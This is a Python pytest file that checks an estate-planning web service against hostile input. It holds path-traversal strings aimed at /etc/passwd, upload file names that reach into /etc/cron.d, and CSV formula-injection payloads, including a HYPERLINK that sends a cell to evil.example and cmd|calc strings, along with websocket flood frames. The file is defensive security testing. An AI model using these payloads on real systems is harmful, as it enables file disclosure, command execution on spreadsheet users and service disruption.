"""Hostile input: clear 4xx problems, never 5xx, nothing stored, the others still served.

Each case is (name, method, path, body bytes, content type). Rows in every table are
counted before and after the whole batch (failed sign-ins aside, which are the point of
counting); a member's ordinary request must keep working in between.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed

from planner.estates.routes import MAX_IMPORT_BYTES
from planner.testing import LINES, Served, World, bearer, row_counts

pytestmark = pytest.mark.timeout(120)

Case = tuple[str, str, str, bytes, str]


def _json(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


def _nested(depth: int) -> bytes:
    return b'{"name": ' + b"[" * depth + b"]" * depth + b"}"


def hostile_cases(w: World) -> list[Case]:
    e, work, quote = w.estate_a, w.ids["work_id"], w.ids["quote_id"]
    motion, meeting = w.ids["motion_id"], w.ids["meeting_id"]
    j = "application/json"
    line = LINES[0]
    cases: list[Case] = [
        (
            "body over 1 MiB",
            "POST",
            f"/api/estates/{e}/works",
            _json({"title": "x" * 2_000_000, "category": "roof"}),
            j,
        ),
        (
            "CSV over the import limit",
            "POST",
            f"/api/estates/{e}/households/import",
            b"building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen\n"
            + b"1,1,1,1.00,k,n,\n" * (MAX_IMPORT_BYTES // 16 + 1),
            "text/csv",
        ),
        ("nested 100k deep", "POST", f"/api/estates/{e}/buildings", _nested(100_000), j),
        ("nested 1000 deep", "POST", f"/api/estates/{e}/buildings", _nested(1000), j),
        (
            "NaN literal",
            "POST",
            f"/api/estates/{e}/funding-sources",
            b'{"name": "n", "budget_fen": NaN}',
            j,
        ),
        (
            "Infinity literal",
            "POST",
            f"/api/estates/{e}/funding-sources",
            b'{"name": "n", "budget_fen": Infinity}',
            j,
        ),
        (
            "overflowing float",
            "POST",
            f"/api/estates/{e}/funding-sources",
            b'{"name": "n", "budget_fen": 1e999}',
            j,
        ),
        (
            "huge integer fen",
            "POST",
            f"/api/estates/{e}/funding-sources",
            _json({"name": "n", "budget_fen": 10**40}),
            j,
        ),
        (
            "fen just past bigint",
            "POST",
            f"/api/estates/{e}/works",
            _json({"title": "t", "category": "roof", "estimate_fen": 2**63}),
            j,
        ),
        (
            "negative fen",
            "POST",
            f"/api/estates/{e}/funding-sources",
            _json({"name": "n", "budget_fen": -1}),
            j,
        ),
        (
            "fractional fen",
            "POST",
            f"/api/estates/{e}/funding-sources",
            _json({"name": "n", "budget_fen": 100.5}),
            j,
        ),
        (
            "fen as a string",
            "POST",
            f"/api/works/{work}/quotes",
            _json({"lines": [{**line, "unit_price_fen": "1e9"}]}),
            j,
        ),
        (
            "negative unit price",
            "POST",
            f"/api/quotes/{quote}/counter-offers",
            _json({"note": "x", "target_total_fen": -500}),
            j,
        ),
        (
            "NaN share",
            "POST",
            f"/api/estates/{e}/funding-sources",
            _json({"name": "n", "budget_fen": 1, "max_share": "NaN"}),
            j,
        ),
        (
            "Infinity band",
            "POST",
            f"/api/estates/{e}/funding-plans",
            _json({"resident_band": ["0.2", "Infinity"]}),
            j,
        ),
        (
            "band of 1e100000",
            "POST",
            f"/api/estates/{e}/funding-plans",
            _json({"resident_band": ["0.2", "1e100000"]}),
            j,
        ),
        (
            "huge quantity",
            "POST",
            f"/api/works/{work}/quotes",
            _json({"lines": [{**line, "quantity": "9" * 400}]}),
            j,
        ),
        (
            "quantity 1e999999",
            "POST",
            f"/api/works/{work}/quotes",
            _json({"lines": [{**line, "quantity": "1e999999"}]}),
            j,
        ),
        (
            "quantity × price past bigint",
            "POST",
            f"/api/works/{work}/quotes",
            _json(
                {
                    "lines": [
                        {**line, "quantity": "99999999999", "unit_price_fen": 9_000_000_000_000_000}
                    ]
                }
            ),
            j,
        ),
        (
            "matter 10",
            "POST",
            f"/api/meetings/{meeting}/motions",
            _json({"title": "t", "matter": 10}),
            j,
        ),
        (
            "overlong title",
            "POST",
            f"/api/estates/{e}/meetings",
            _json({"title": "议" * 100_000, "kind": "public_hearing"}),
            j,
        ),
        (
            "overlong note",
            "POST",
            f"/api/quotes/{quote}/counter-offers",
            _json({"note": "x" * 500_000}),
            j,
        ),
        (
            "bad UTF-8 in JSON",
            "POST",
            f"/api/estates/{e}/buildings",
            b'{"name": "\xff\xfe\xc3("}',
            j,
        ),
        ("lone surrogate", "POST", f"/api/estates/{e}/buildings", b'{"name": "\\ud800"}', j),
        ("NUL in text", "POST", f"/api/estates/{e}/buildings", b'{"name": "a\\u0000b"}', j),
        (
            "bad UTF-8 in CSV",
            "POST",
            f"/api/estates/{e}/households/import",
            b"building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen\n"
            b"1,1,1,80.00,k,\xff\xfe,\n",
            "text/csv",
        ),
        (
            "CSV with NUL",
            "POST",
            f"/api/estates/{e}/households/import",
            b"building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen\n"
            b"1,1,1,80.00,k,a\x00b,\n",
            "text/csv",
        ),
        (
            "CSV negative cap",
            "POST",
            f"/api/estates/{e}/households/import",
            b"building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen\n"
            b"1,1,1,80.00,k,n,-5\n",
            "text/csv",
        ),
        (
            "CSV NaN area",
            "POST",
            f"/api/estates/{e}/households/import",
            b"building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen\n1,1,1,NaN,k,n,\n",
            "text/csv",
        ),
        (
            "CSV huge area",
            "POST",
            f"/api/estates/{e}/households/import",
            b"building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen\n"
            b"1,1,1,1e400,k,n,\n",
            "text/csv",
        ),
        ("not JSON", "POST", f"/api/estates/{e}/buildings", b"{name: 1", j),
        ("JSON array body", "POST", f"/api/estates/{e}/buildings", b"[1,2,3]", j),
        ("unknown field", "POST", f"/api/estates/{e}/buildings", _json({"name": "x", "id": 1}), j),
        ("wrong choice", "POST", f"/api/motions/{motion}/ballots", _json({"choice": "maybe"}), j),
        (
            "ballot for a foreign unit",
            "POST",
            f"/api/motions/{motion}/ballots",
            _json({"choice": "yes", "household_ids": [w.households_b[0]]}),
            j,
        ),
        ("id past bigint in path", "GET", f"/api/works/{2**70}", b"", j),
        ("negative id in path", "GET", "/api/works/-1", b"", j),
        ("traversal in path", "GET", "/../../etc/passwd", b"", j),
        ("encoded traversal", "GET", "/%2e%2e/%2e%2e/etc/passwd", b"", j),
        ("encoded slash traversal", "GET", "/..%2f..%2f..%2fetc%2fpasswd", b"", j),
        ("double-encoded traversal", "GET", "/%252e%252e/%252e%252e/etc/passwd", b"", j),
        ("traversal under a folder", "GET", "/vendor/..%2f..%2f..%2fpyproject.toml", b"", j),
        ("backslash traversal", "GET", "/..\\..\\etc\\passwd", b"", j),
        (
            "export view traversal",
            "GET",
            f"/api/funding-plans/{w.ids['plan_id']}/export.csv?view=../../etc/passwd",
            b"",
            j,
        ),
    ]
    return cases


def _owner(w: World) -> dict[str, str]:
    return bearer(w.own["owner"])


def _who(case: Case, w: World) -> dict[str, str]:
    """Owners cast ballots, suppliers quote; the committee does the rest."""
    path = case[2]
    if path.endswith("/ballots"):
        return _owner(w)
    if path.endswith("/quotes"):
        return bearer(w.own["supplier"])
    return bearer(w.own["committee"])


def _without_attempts(counts: dict[str, int]) -> dict[str, int]:
    return {k: v for k, v in counts.items() if k != "auth_failures"}


async def _raw_get(base_url: str, raw_path: str) -> tuple[int, bytes]:
    """GET with the path sent byte for byte (clients normalise '..' away)."""
    host, port = base_url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(f"GET {raw_path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    await writer.drain()
    data = await asyncio.wait_for(reader.read(), 10)
    writer.close()
    status = int(data.split(b" ", 2)[1])
    return status, data


async def test_hostile_requests_get_clear_4xx_and_store_nothing(served: Served) -> None:
    w = served.world
    before = _without_attempts(await row_counts(served.database_url))
    results = []
    async with httpx.AsyncClient(base_url=served.base_url, timeout=60) as http:
        for case in hostile_cases(w):
            name, method, path, body, content_type = case
            if method == "GET" and (".." in path or "%2" in path or "\\" in path):
                status, raw = await _raw_get(served.base_url, path)
                assert b"root:" not in raw and b"[project]" not in raw, name
                results.append((name, status, ""))
                continue
            response = await http.request(
                method,
                path,
                content=body,
                headers={**_who(case, w), "content-type": content_type},
            )
            results.append((name, response.status_code, response.text[:300]))
            if 400 <= response.status_code < 500 and response.status_code != 404:
                problem = response.json()
                assert problem["status"] == response.status_code, name
                assert problem["detail"], f"{name}: a problem without a reason"
            # the service keeps serving others between hostile requests
            me = await http.get("/api/me", headers=bearer(w.own["observer"]))
            assert me.status_code == 200, f"after {name}: {me.status_code}"
    after = _without_attempts(await row_counts(served.database_url))
    bad = [r for r in results if not 400 <= r[1] < 500]
    assert bad == [], f"hostile requests not answered with a 4xx: {bad}"
    statuses = {name: status for name, status, _ in results}
    assert statuses["body over 1 MiB"] == 413
    assert statuses["CSV over the import limit"] == 413
    changed = {k: (before[k], after.get(k)) for k in before if before[k] != after.get(k)}
    assert changed == {}, f"rows stored by hostile requests: {changed}"


async def test_uploaded_file_names_are_never_used_as_paths(served: Served) -> None:
    """A CSV uploaded as multipart under a traversing name: the name is ignored."""
    w = served.world
    csv_body = (
        b"building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen\n"
        b"7\xe6\xa0\x8b,701,7,88.00,up,upload,\n"
    )
    names = [
        "../../../../tmp/planner-pwned.csv",
        "..%2f..%2fplanner-pwned.csv",
        "/etc/cron.d/planner-pwned",
        "..\\..\\planner-pwned.csv",
    ]
    statuses = []
    async with httpx.AsyncClient(base_url=served.base_url, timeout=60) as http:
        for i, name in enumerate(names):
            body = csv_body.replace(b"701", f"70{i + 2}".encode())
            response = await http.post(
                f"/api/estates/{w.estate_a}/households/import",
                files={"file": (name, body, "text/csv")},
                headers=bearer(w.own["committee"]),
            )
            statuses.append(response.status_code)
    assert set(statuses) <= {201, 400}, statuses
    for where in (Path("/tmp"), Path.cwd(), Path("/etc/cron.d")):
        assert not list(where.glob("planner-pwned*")), where


HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此领取补贴")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


async def test_exports_neutralise_formula_injection(served: Served) -> None:
    w = served.world
    admin = bearer(w.admin)
    rows = ["building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen"]
    for i, text in enumerate(HOSTILE_TEXT):
        quoted = '"' + text.replace('"', '""') + '"'
        rows.append(f"9栋,{900 + i},9,70.00,evil{i},{quoted},")
    async with httpx.AsyncClient(base_url=served.base_url, timeout=60) as http:
        imported = await http.post(
            f"/api/estates/{w.estate_a}/households/import",
            content=("\n".join(rows) + "\n").encode(),
            headers={**admin, "content-type": "text/csv"},
        )
        assert imported.status_code == 201, imported.text
        work = await http.post(
            f"/api/estates/{w.estate_a}/works",
            json={"title": HOSTILE_TEXT[0], "category": "=1+1", "estimate_fen": 100_000},
            headers=admin,
        )
        assert work.status_code == 201, work.text
        plan = await http.post(
            f"/api/estates/{w.estate_a}/funding-plans",
            json={"resident_band": ["0.20", "1.00"]},
            headers=bearer(w.own["treasurer"]),
        )
        assert plan.status_code == 201, plan.text
        plan_id = plan.json()["id"]
        exports: dict[str, bytes] = {}
        for view in ("households", "works", "sources"):
            response = await http.get(
                f"/api/funding-plans/{plan_id}/export.csv", params={"view": view}, headers=admin
            )
            assert response.status_code == 200, response.text
            exports[view] = response.content
        xlsx = await http.get(f"/api/funding-plans/{plan_id}/export.xlsx", headers=admin)
        assert xlsx.status_code == 200
    seen = 0
    for view, raw in exports.items():
        for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))):
            for cell in row:
                if any(t.strip()[1:12] in cell for t in HOSTILE_TEXT):
                    seen += 1
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (view, cell)
    assert seen >= len(HOSTILE_TEXT), "the hostile names must appear (neutralised) in the CSV"
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    xseen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and any(t.strip()[1:12] in value for t in HOSTILE_TEXT):
                    xseen += 1
                    # a string cell, never a formula; if it looks like one, it carries
                    # Excel's quote prefix so editing the cell cannot turn it into one
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, value)
                    if value.startswith(("=", "+", "-", "@", "\t")):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, value)
    assert xseen >= len(HOSTILE_TEXT)


async def test_websocket_floods_and_malformed_frames(served: Served) -> None:
    w = served.world
    base = served.base_url.replace("http://", "ws://") + f"/ws/estates/{w.estate_a}"
    owner = w.own["owner"]
    # a bystander stays connected through it all and keeps receiving events
    async with connect(f"{base}?token={w.own['observer']}", open_timeout=10) as bystander:
        bad_frames: list[str | bytes] = [
            "not json",
            "{",
            "[]",
            "null",
            '{"type": 1}',
            '{"type": "join"}',
            '{"type": "join", "meeting_id": "x"}',
            '{"type": "join", "meeting_id": 1e999}',
            '{"type": "ping", "nonce": ' + "9" * 5000 + "}",
            b"\xff\xfe\x00",
            "[" * 100_000,
            '{"type": "nope"}',
            "\u0000",
        ] * 3
        async with connect(f"{base}?token={owner}", open_timeout=10, max_size=None) as flood:
            for frame in bad_frames:
                try:
                    await flood.send(frame)
                except ConnectionClosed:
                    break
            code = await _closed_code(flood)
        assert code == 1008, f"a flood of malformed frames closes with policy violation, got {code}"

        # a frame past the client-frame limit is answered with an error frame, not a crash
        async with connect(f"{base}?token={owner}", open_timeout=10, max_size=None) as big:
            await big.send("x" * 60_000)
            async with asyncio.timeout(10):
                while "error" not in json.loads(await big.recv()).get("type", ""):
                    pass

        # a flood of valid pings from several sockets does not stop the service
        # (max_queue=None: these clients never read their pongs, and a full receive queue
        # would stop them reading the server's close frame)
        sockets = [
            await connect(f"{base}?token={owner}", open_timeout=10, max_queue=None)
            for _ in range(8)
        ]
        try:
            for ws in sockets:
                for i in range(40):
                    await ws.send(json.dumps({"type": "ping", "nonce": str(i)}))
        finally:
            for ws in sockets:
                await ws.close()

        async with httpx.AsyncClient(base_url=served.base_url, timeout=30) as http:
            made = await http.post(
                f"/api/estates/{w.estate_a}/buildings",
                json={"name": "洪水后"},
                headers=bearer(w.own["committee"]),
            )
            assert made.status_code == 201, made.text
            health = await http.get("/health")
            assert health.status_code == 200
        async with asyncio.timeout(15):
            while True:
                frame = json.loads(await bystander.recv())
                if frame.get("type") == "building.added":
                    break


async def _closed_code(ws: ClientConnection, timeout: float = 10) -> int | None:
    async with asyncio.timeout(timeout):
        try:
            while True:
                await ws.recv()
        except ConnectionClosed:
            pass
    return ws.close_code


async def test_the_served_service_refuses_megabyte_frames(services: Callable[..., Any]) -> None:
    """``planner serve`` closes a socket that sends a frame of megabytes (1009)."""
    running = services()
    admin = bearer(running.admin_token)
    async with httpx.AsyncClient(base_url=running.base_url, timeout=30) as http:
        estate = (await http.post("/api/estates", json={"name": "大帧"}, headers=admin)).json()
        member = await http.post(
            f"/api/estates/{estate['id']}/members",
            json={"role": "owner", "display_name": "o"},
            headers=admin,
        )
        token = member.json()["token"]
    url = running.base_url.replace("http://", "ws://") + f"/ws/estates/{estate['id']}?token={token}"
    async with connect(url, open_timeout=10, max_size=None) as big:
        with contextlib.suppress(ConnectionClosed):
            await big.send("x" * 4_000_000)
        code = await _closed_code(big)
    assert code == 1009, code
    async with httpx.AsyncClient(base_url=running.base_url, timeout=30) as http:
        assert (await http.get("/health")).status_code == 200
